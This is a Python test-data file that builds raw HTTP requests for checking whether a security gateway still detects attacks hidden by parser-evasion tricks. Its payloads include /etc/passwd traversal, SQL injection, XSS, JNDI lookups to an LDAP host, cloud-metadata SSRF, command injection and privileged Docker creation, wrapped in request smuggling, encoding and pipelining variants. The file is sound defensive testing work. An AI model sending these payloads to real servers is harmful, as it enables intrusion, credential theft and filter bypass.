"""evasion_corpus - the requests of tests/e2e/test_http_servers.py (issue 7,
"What must be shown"): every way we know to make the gateway and the pod's
HTTP server disagree about where a request is, what its target is, or where
its body ends, each carrying an attack string that a bundled rule names.

CASES is a list of Case(name, kind, chunks):
  kind    "attack"  must be alerted or blocked wherever a server serves it
          "plain"   one well-formed request per attack string: the sanity
                    control that the string really fires a bundled rule
          "benign"  must be served by both servers and raise nothing
  chunks  the bytes of ONE TCP connection, sent exactly as written (a tuple
          of several chunks is sent with a short pause in between: "wait
          for the response, then send the next request").

Markers: every request of a case carries "case=###" (the one that must not
be served uninspected) or "pre=###" (a benign companion on the same
connection); the test replaces ### with the case number, so the server logs
can be matched to the case and lengths (Content-Length) stay as written.

`python3 evasion_corpus.py` prints the corpus.
"""
from collections import namedtuple

Case = namedtuple("Case", "name kind chunks")

H = b"Host: pod.example\r\n"
UA = b"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0\r\n"
STD = H + UA + b"Accept: */*\r\n"
M, P = b"case=###", b"pre=###"

# The attack strings, each as a request target (path + query, marker in
# the query) that a bundled rule fires on when sent in a plain request.
TARGETS = {
    "traversal": b"/img/x/../../etc/passwd?" + M,
    "passwd":    b"/view?file=/etc/passwd&" + M,
    "sqli":      b"/item?id=1%20UNION%20SELECT%20user,pass%20FROM%20users&" + M,
    "xss":       b"/q?s=<script>alert(1)</script>&" + M,
    "jndi":      b"/q?x=${jndi:ldap://203.0.113.5/a}&" + M,
    "ssrf":      b"/fetch?url=http://169.254.169.254/latest/meta-data/&" + M,
    "k8s":       b"/api/v1/namespaces/kube-system/secrets?" + M,
    "cmdi":      b"/ping?host=127.0.0.1;cat%20/etc/passwd&" + M,
}
DOCKER_BODY = b'{"Image":"alpine","Cmd":["sh"],"HostConfig":{"Privileged":true}}'
DOCKER_TARGET = b"/v1.41/containers/create?" + M
FORM_BODY = b"user=admin&q=1%27%20UNION%20SELECT%20password%20FROM%20users--"
SMUGGLED = b"GET /view?file=/etc/passwd&" + M + b" HTTP/1.1\r\n" + H + b"\r\n"
BENIGN = b"/index.html?" + P


def get(target, method=b"GET", version=b"HTTP/1.1", headers=STD, eol=b"\r\n"):
    hdr = headers.replace(b"\r\n", eol)
    return method + b" " + target + b" " + version + eol + hdr + eol


def post(target, body, ctype=b"application/x-www-form-urlencoded", extra=b""):
    return (b"POST " + target + b" HTTP/1.1\r\n" + STD + b"Content-Type: " +
            ctype + b"\r\nContent-Length: %d\r\n" % len(body) + extra +
            b"\r\n" + body)


def chunked(body, size_fmt=b"%x"):
    return size_fmt % len(body) + b"\r\n" + body + b"\r\n0\r\n\r\n"


def with_space_prefix(t, sep=b" "):
    # "/x y/../REST": the ".." eats the segment holding the separator
    return b"/x" + sep + b"y/.." + t


# request-line variants, applied to every attack target: name -> bytes(t)
LINE_VARIANTS = {
    "space-in-target":   lambda t: get(with_space_prefix(t)),
    "tab-in-target":     lambda t: get(with_space_prefix(t, b"\t")),
    "space-in-target-1.0": lambda t: get(with_space_prefix(t), version=b"HTTP/1.0"),
    "http09":            lambda t: b"GET " + t + b"\r\n",
    "http09-bare-lf":    lambda t: b"GET " + t + b"\n",
    "leading-crlf":      lambda t: b"\r\n\r\n" + get(t),
    "leading-lf":        lambda t: b"\n" + get(t),
    "trailing-spaces":   lambda t: get(t, version=b"HTTP/1.1  "),
    "trailing-tab":      lambda t: get(t, version=b"HTTP/1.1\t"),
    "lowercase-method":  lambda t: get(t, method=b"get"),
    "unknown-method":    lambda t: get(t, method=b"FOO"),
    "absolute-form":     lambda t: get(b"http://pod.example" + t),
    "double-spaces":     lambda t: b"GET  " + t + b"  HTTP/1.1\r\n" + STD + b"\r\n",
    "bare-lf":           lambda t: get(t, eol=b"\n"),
    "http10":            lambda t: get(t, version=b"HTTP/1.0"),
    "long-line":         lambda t: get(t.replace(b"?", b"?pad=" + b"A" * 6000 + b"&", 1)),
    "tab-separators":    lambda t: b"GET\t" + t + b"\tHTTP/1.1\r\n" + STD + b"\r\n",
    "http12":            lambda t: get(t, version=b"HTTP/1.2"),
}

# header variants: the attack in the target or in a header value
HEADER_CASES = [
    ("obs-fold-before-target-attack",
     b"GET " + TARGETS["passwd"] + b" HTTP/1.1\r\n" + H + b"X-A: a\r\n b\r\n" + UA + b"\r\n"),
    ("obs-fold-ua-jndi",
     b"GET /index.html?" + M + b" HTTP/1.1\r\n" + H + b"User-Agent: x\r\n ${jndi:ldap://203.0.113.5/a}\r\n\r\n"),
    ("obs-fold-tab-ua-jndi",
     b"GET /index.html?" + M + b" HTTP/1.1\r\n" + H + b"User-Agent: x\r\n\t${jndi:ldap://203.0.113.5/a}\r\n\r\n"),
    ("space-before-colon-ua-jndi",
     b"GET /index.html?" + M + b" HTTP/1.1\r\n" + H + b"User-Agent : ${jndi:ldap://203.0.113.5/a}\r\n\r\n"),
    ("space-before-colon-target-attack",
     b"GET " + TARGETS["sqli"] + b" HTTP/1.1\r\nHost : pod.example\r\n" + UA + b"\r\n"),
    ("tab-after-colon-header-jndi",
     b"GET /index.html?" + M + b" HTTP/1.1\r\n" + H + b"X-Api-Version:\t${jndi:ldap://203.0.113.5/a}\r\n\r\n"),
    ("tab-before-colon-header-jndi",
     b"GET /index.html?" + M + b" HTTP/1.1\r\n" + H + b"X-Api-Version\t: ${jndi:ldap://203.0.113.5/a}\r\n\r\n"),
    ("duplicate-host-target-attack",
     b"GET " + TARGETS["ssrf"] + b" HTTP/1.1\r\n" + H + b"Host: other.example\r\n" + UA + b"\r\n"),
    ("duplicate-host-metadata",
     b"GET /latest/meta-data/?" + M + b" HTTP/1.1\r\n" + H + b"Host: 169.254.169.254\r\n\r\n"),
    ("no-host-http11-target-attack",
     b"GET " + TARGETS["xss"] + b" HTTP/1.1\r\n" + UA + b"\r\n"),
    ("header-bare-cr-target-attack",
     b"GET " + TARGETS["k8s"] + b" HTTP/1.1\r\n" + H + b"X-A: a\rb\r\n\r\n"),
    ("header-no-space-after-colon-xss",
     b"GET /index.html?" + M + b" HTTP/1.1\r\n" + H + b"Referer:<script>alert(1)</script>\r\n\r\n"),
    ("header-nul-byte-target-attack",
     b"GET " + TARGETS["cmdi"] + b" HTTP/1.1\r\n" + H + b"X-A: a\x00b\r\n\r\n"),
    ("header-name-nonascii-target-attack",
     b"GET " + TARGETS["jndi"] + b" HTTP/1.1\r\n" + H + b"X-\xc3\xa9: a\r\n\r\n"),
    ("many-headers-target-attack",
     b"GET " + TARGETS["passwd"] + b" HTTP/1.1\r\n" + H +
     b"".join(b"X-H%d: v\r\n" % i for i in range(60)) + b"\r\n"),
]

# smuggling: framing the gateway and a server may resolve differently.  The
# smuggled request (SMUGGLED) reads /etc/passwd.
def _sm(framing, body):
    return (b"POST /index.html?" + P + b" HTTP/1.1\r\n" + H + framing + b"\r\n" + body)


SMUGGLING_CASES = [
    ("cl-te-chunked", _sm(b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n" + SMUGGLED)),
    ("te-cl-chunked", _sm(b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", b"0\r\n\r\n" + SMUGGLED)),
    ("cl-zero-te", _sm(b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n" + SMUGGLED)),
    ("duplicate-cl-same", _sm(b"Content-Length: 5\r\nContent-Length: 5\r\n", b"a=b&c" + SMUGGLED)),
    ("duplicate-cl-differ", _sm(b"Content-Length: 0\r\nContent-Length: 5\r\n", b"a=b&c" + SMUGGLED)),
    ("cl-list", _sm(b"Content-Length: 5, 5\r\n", b"a=b&c" + SMUGGLED)),
    ("cl-plus-sign", _sm(b"Content-Length: +5\r\n", b"a=b&c" + SMUGGLED)),
    ("cl-leading-zeros", _sm(b"Content-Length: 005\r\n", b"a=b&c" + SMUGGLED)),
    ("te-chunked-identity", _sm(b"Transfer-Encoding: chunked, identity\r\n", b"0\r\n\r\n" + SMUGGLED)),
    ("te-identity-chunked", _sm(b"Transfer-Encoding: identity, chunked\r\n", b"0\r\n\r\n" + SMUGGLED)),
    ("te-space-before-colon", _sm(b"Transfer-Encoding : chunked\r\n", b"0\r\n\r\n" + SMUGGLED)),
    ("te-uppercase", _sm(b"Transfer-Encoding: CHUNKED\r\n", b"0\r\n\r\n" + SMUGGLED)),
    ("te-tab-value", _sm(b"Transfer-Encoding:\tchunked\r\n", b"0\r\n\r\n" + SMUGGLED)),
    ("te-obs-fold", _sm(b"Transfer-Encoding:\r\n chunked\r\n", b"0\r\n\r\n" + SMUGGLED)),
    ("te-duplicate", _sm(b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", b"0\r\n\r\n" + SMUGGLED)),
    ("te-http10", b"POST /index.html?" + P + b" HTTP/1.0\r\n" + H +
     b"Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED),
    # chunk-size tricks, the attack in the de-chunked form body
    ("chunk-leading-zeros", post(b"/form?" + M, b"", extra=b"").split(b"Content-Length")[0] +
     b"Transfer-Encoding: chunked\r\n\r\n" + chunked(FORM_BODY, b"000%x")),
    ("chunk-extension", post(b"/form?" + M, b"").split(b"Content-Length")[0] +
     b"Transfer-Encoding: chunked\r\n\r\n" + chunked(FORM_BODY, b"%x;ext=1")),
    ("chunk-uppercase-hex", post(b"/form?" + M, b"").split(b"Content-Length")[0] +
     b"Transfer-Encoding: chunked\r\n\r\n" + chunked(FORM_BODY, b"%X")),
    ("chunk-0x-prefix", post(b"/form?" + M, b"").split(b"Content-Length")[0] +
     b"Transfer-Encoding: chunked\r\n\r\n" + chunked(FORM_BODY, b"0x%x")),
    ("chunk-size-spaces", post(b"/form?" + M, b"").split(b"Content-Length")[0] +
     b"Transfer-Encoding: chunked\r\n\r\n" + chunked(FORM_BODY, b"%x  ")),
    ("chunk-bare-lf", post(b"/form?" + M, b"").split(b"Content-Length")[0] +
     b"Transfer-Encoding: chunked\r\n\r\n" + (b"%x\n" % len(FORM_BODY)) + FORM_BODY + b"\n0\n\n"),
    ("chunk-split-attack", post(b"/form?" + M, b"").split(b"Content-Length")[0] +
     b"Transfer-Encoding: chunked\r\n\r\n" + b"".join(
         b"%x\r\n%s\r\n" % (len(FORM_BODY[i:i + 7]), FORM_BODY[i:i + 7])
         for i in range(0, len(FORM_BODY), 7)) + b"0\r\n\r\n"),
]

# encodings of the target
ENCODING_CASES = [
    ("pct-passwd", b"/view?file=%2fetc%2fpasswd&" + M),
    ("pct-path-passwd", b"/img/x/..%2f..%2fetc%2fpasswd?" + M),
    ("pct-dots", b"/img/x/%2e%2e/%2e%2e/etc/passwd?" + M),
    ("pct-all", b"/%76%69%65%77?%66ile=%2F%65%74%63%2F%70%61%73%73%77%64&" + M),
    # what an application that decodes twice reads as /etc/passwd; the
    # bundled rules know double-encoded dots (1003004), not slashes
    ("double-pct", b"/view?file=%252fetc%252fpasswd&" + M),
    ("double-pct-dots", b"/img/x/%252e%252e/%252e%252e/etc/passwd?" + M),
    ("pct-u", b"/view?file=%u002fetc%u002fpasswd&" + M),
    ("overlong-utf8-slash", b"/img/x/..%c0%af..%c0%afetc%c0%afpasswd?" + M),
    ("overlong-utf8-dot", b"/img/x/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd?" + M),
    ("backslash", b"/img\\x\\..\\..\\etc\\passwd?" + M),
    ("pct-backslash", b"/img/x/..%5c..%5cetc%5cpasswd?" + M),
    ("double-slash", b"//etc//passwd?" + M),
    ("dot-segments", b"/./etc/./passwd?" + M),
    ("mixed-case-etc", b"/view?file=/ETC/PassWD&" + M),
    ("mixed-case-sqli", b"/item?id=1%20uNiOn%20SeLeCt%20user,pass%20FROM%20users&" + M),
    ("plus-space-sqli", b"/item?id=1+UNION+SELECT+user,pass+FROM+users&" + M),
    ("comment-sqli", b"/item?id=1/**/UNION/**/SELECT/**/user&" + M),
    ("pct-xss", b"/q?s=%3Cscript%3Ealert(1)%3C/script%3E&" + M),
    ("double-pct-xss", b"/q?s=%253Cscript%253Ealert(1)&" + M),
    ("pct-jndi", b"/q?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D&" + M),
    ("pct-ssrf", b"/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F&" + M),
    ("pct-k8s", b"/api/v1/namespaces/kube-system/%73ecrets?" + M),
    ("k8s-double-slash", b"/api//v1/namespaces/kube-system//secrets?" + M),
    ("k8s-dot-segment", b"/api/v1/./namespaces/kube-system/x/../secrets?" + M),
    ("pct-cmdi", b"/ping?host=127.0.0.1%3bcat%20%2fetc%2fpasswd&" + M),
    ("nul-byte-passwd", b"/view?file=/etc/passwd%00.png&" + M),
    ("fragment-after", b"/view?file=/etc/passwd&" + M + b"#frag"),
    ("semicolon-param", b"/img/x/..;/..;/etc/passwd?" + M),
]

# pipelining and keep-alive: the attack is not the first request
def _benign(version=b"HTTP/1.1"):
    return get(BENIGN, version=version)


PIPELINE_CASES = [
    ("keepalive-then-attack", (_benign(), get(TARGETS["passwd"]))),
    ("pipelined-second", _benign() + get(TARGETS["passwd"])),
    ("pipelined-second-sqli", _benign() + get(TARGETS["sqli"])),
    ("pipelined-third", _benign() + _benign() + get(TARGETS["jndi"])),
    ("pipelined-bare-lf-second", get(BENIGN, eol=b"\n") + get(TARGETS["xss"], eol=b"\n")),
    ("malformed-first-then-attack", b"GET /x y/index.html?" + P + b" HTTP/1.1\r\n" + H + b"\r\n" + get(TARGETS["passwd"])),
    ("malformed-first-keepalive", (b"GET /x y/index.html?" + P + b" HTTP/1.1\r\n" + H + b"\r\n", get(TARGETS["k8s"]))),
    ("http09-first-then-attack", b"GET /index.html?" + P + b"\r\n" + get(TARGETS["passwd"])),
    ("body-then-pipelined", post(b"/index.html?" + P, b"a=b") + get(TARGETS["ssrf"])),
    ("chunked-then-pipelined", _sm(b"Transfer-Encoding: chunked\r\n", b"3\r\na=b\r\n0\r\n\r\n" + get(TARGETS["cmdi"]))),
    ("expect-100-then-attack", (b"POST /index.html?" + P + b" HTTP/1.1\r\n" + H +
                                b"Expect: 100-continue\r\nContent-Length: 3\r\n\r\n", b"a=b" + get(TARGETS["passwd"]))),
    ("leading-crlf-between", _benign() + b"\r\n\r\n" + get(TARGETS["traversal"])),
]

# protocol switches: after Upgrade / CONNECT a gateway may stop parsing HTTP
UPGRADE_CASES = [
    ("upgrade-websocket-then-attack",
     b"GET /index.html?" + P + b" HTTP/1.1\r\n" + H + b"Connection: Upgrade\r\nUpgrade: websocket\r\n"
     b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n" + get(TARGETS["passwd"])),
    ("upgrade-h2c-then-attack",
     b"GET /index.html?" + P + b" HTTP/1.1\r\n" + H + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
     b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n" + get(TARGETS["sqli"])),
    ("upgrade-keepalive-then-attack",
     (b"GET /index.html?" + P + b" HTTP/1.1\r\n" + H + b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
      get(TARGETS["jndi"]))),
    ("connect-then-attack",
     b"CONNECT pod.example:80 HTTP/1.1\r\n" + H + b"\r\n" + get(TARGETS["passwd"])),
    ("connect-keepalive-then-attack",
     (b"CONNECT pod.example:80 HTTP/1.1\r\n" + H + b"\r\n", get(TARGETS["k8s"]))),
    ("connect-attack-target",
     b"CONNECT 169.254.169.254:80?" + M + b" HTTP/1.1\r\n" + H + b"\r\n"),
]

# the attack in a POST body
BODY_CASES = [
    ("form-body-sqli", post(b"/form?" + M, FORM_BODY)),
    ("form-body-passwd", post(b"/form?" + M, b"file=../../../../etc/passwd")),
    ("form-body-jndi", post(b"/form?" + M, b"name=${jndi:ldap://203.0.113.5/a}")),
    ("form-body-xss", post(b"/form?" + M, b"comment=<script>alert(1)</script>")),
    ("json-body-ssrf", post(b"/form?" + M, b'{"url":"http://169.254.169.254/latest/meta-data/"}', b"application/json")),
    ("chunked-body-sqli", post(b"/form?" + M, b"").split(b"Content-Length")[0] +
     b"Transfer-Encoding: chunked\r\n\r\n" + chunked(FORM_BODY)),
    ("docker-create", post(DOCKER_TARGET, DOCKER_BODY, b"application/json")),
    # the docker rules want http.method "POST"; Python's parser dispatches
    # "post" to do_post (this test's pod answers every method)
    ("docker-create-lowercase-post", b"post" + post(DOCKER_TARGET, DOCKER_BODY, b"application/json")[4:]),
    ("docker-create-space-target", post(with_space_prefix(DOCKER_TARGET), DOCKER_BODY, b"application/json")),
    ("docker-create-http09ish", b"POST " + DOCKER_TARGET + b"\r\n" + DOCKER_BODY),
    ("body-bare-lf-headers", post(b"/form?" + M, FORM_BODY).replace(b"\r\n", b"\n")),
    ("body-cl-larger-than-sent", b"POST /form?" + M + b" HTTP/1.1\r\n" + H +
     b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n" % len(FORM_BODY) + FORM_BODY[:40]),
]


def _build():
    cases = []
    for name, t in TARGETS.items():
        cases.append(Case("plain-" + name, "plain", (get(t),)))
    cases.append(Case("plain-docker", "plain",
                      (post(DOCKER_TARGET, DOCKER_BODY, b"application/json"),)))
    cases.append(Case("plain-form-body", "plain", (post(b"/form?" + M, FORM_BODY),)))
    # benign controls: served by both servers, nothing raised.  Bare LF and
    # HTTP/1.0 are what real clients send too (DESIGN.md section 6: a bare
    # LF is a line end).  Not a leading empty line: Python's http.server
    # closes the connection on it, nginx skips it.
    benign = [
        ("index", get(b"/index.html?" + M)),
        ("file", get(b"/a.txt?" + M)),
        ("search", get(b"/search?q=kubernetes+secrets+howto&" + M)),
        ("post", post(b"/form?" + M, b"q=union+station&sort=asc")),
        ("pipelined", get(b"/index.html?" + P) + get(b"/a.txt?" + M)),
        ("http10", get(b"/index.html?" + M, version=b"HTTP/1.0")),
        ("bare-lf", get(b"/index.html?" + M, eol=b"\n")),
    ]
    for name, raw in benign:
        cases.append(Case("benign-" + name, "benign", (raw,)))
    for vname, fn in LINE_VARIANTS.items():
        for tname, t in TARGETS.items():
            cases.append(Case("%s/%s" % (vname, tname), "attack", (fn(t),)))
    for group, lst in (("hdr", HEADER_CASES), ("smuggle", SMUGGLING_CASES),
                       ("pipe", PIPELINE_CASES), ("upgrade", UPGRADE_CASES),
                       ("body", BODY_CASES)):
        for name, raw in lst:
            chunks = raw if isinstance(raw, tuple) else (raw,)
            cases.append(Case("%s/%s" % (group, name), "attack", chunks))
    for name, t in ENCODING_CASES:
        cases.append(Case("enc/" + name, "attack", (get(t),)))
    return cases


CASES = _build()


def materialize(case, n):
    """The chunks of CASE with its markers numbered N (lengths unchanged)."""
    tag = b"%03d" % n
    return tuple(c.replace(b"case=###", b"case=" + tag)
                 .replace(b"pre=###", b"pre=" + tag) for c in case.chunks)


if __name__ == "__main__":
    for i, c in enumerate(CASES):
        print(i, c.kind, c.name)
        for ch in materialize(c, i):
            print("   ", repr(ch[:300]))
